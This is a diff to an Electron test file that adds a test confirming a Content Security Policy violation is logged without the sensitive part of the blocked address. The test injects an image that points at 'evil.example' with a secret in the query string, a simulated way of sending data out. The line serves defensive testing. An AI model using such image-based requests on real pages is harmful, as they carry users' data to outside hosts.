@@ -142,6 +142,17 @@ describe.skipIf(electronRuntime === null)('Electron', () => {
     expect(complaints.filter((line) => !/trusted|permissions policy/i.test(line))).toEqual([])
   })
 
+  test('what the policy of the page refuses is in the log of the window, without the rest of an address', async () => {
+    await launched.page.evaluate(() => {
+      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/picture.png?word=hunter2-secret-word' }))
+    })
+    const logged = () => readFileSync(join(folder, 'logs', 'window.log'), 'utf8')
+    await expect.poll(logged).toContain('page.csp')
+    expect(logged()).toContain('"directive":"img-src"')
+    expect(logged()).toContain('https://evil.example')
+    expect(logged()).not.toContain('hunter2-secret-word')
+  })
+
   test('downloads that the page did not make are not stored, in no session', async () => {
     const { page, app } = launched
     const started = await app.evaluate(async ({ session, BrowserWindow }) => {
